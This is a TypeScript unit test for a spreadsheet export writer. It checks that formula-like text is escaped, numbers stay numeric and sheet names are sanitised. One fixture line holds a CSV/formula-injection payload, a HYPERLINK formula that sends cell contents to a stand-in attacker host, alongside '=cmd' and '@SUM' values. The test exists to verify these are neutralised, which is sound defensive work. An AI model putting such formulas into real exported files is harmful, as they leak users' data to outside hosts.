// The Excel writer (src/components/download/xlsx.ts): sheets as given, numbers stay numbers, text that starts
// like a formula is neutralised as in the CSV, and every cell is typed (a text cell is never a formula).
import { describe, expect, it } from 'vitest';
import { sheetName, xlsxBlob } from '../../src/components/download/xlsx.ts';
import { readXlsx } from '../helpers/xlsx.ts';

describe('xlsxBlob', () => {
  it('writes a data sheet and an about sheet; formula-leading text is neutralised, numbers stay numbers', async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
    const blob = await xlsxBlob([
      { name: '数据', headers: ['标题', '变化', '=cmd'], rows: [[formula, -3.5, '@SUM(1)'], ['福建省', 12, null]] },
      { name: '说明', headers: ['', ''], rows: [['标题', '各市案例数']] },
    ]);
    const [data, about] = readXlsx(new Uint8Array(await blob.arrayBuffer()));
    expect(data.name).toBe('数据');
    expect(data.rows).toEqual([
      ['标题', '变化', "'=cmd"],
      [`'${formula}`, -3.5, "'@SUM(1)"],
      ['福建省', 12], // an empty last cell is not written
    ]);
    expect(about.name).toBe('说明');
    expect(about.rows.at(-1)).toEqual(['标题', '各市案例数']);
  });

  it('makes any title a valid sheet name (≤ 31 characters, none of []:*?/\\)', () => {
    expect(sheetName('a/b:c*d?e[f]g\\h')).toBe('a b c d e f g h');
    expect(sheetName('x'.repeat(40))).toHaveLength(31);
  });
});
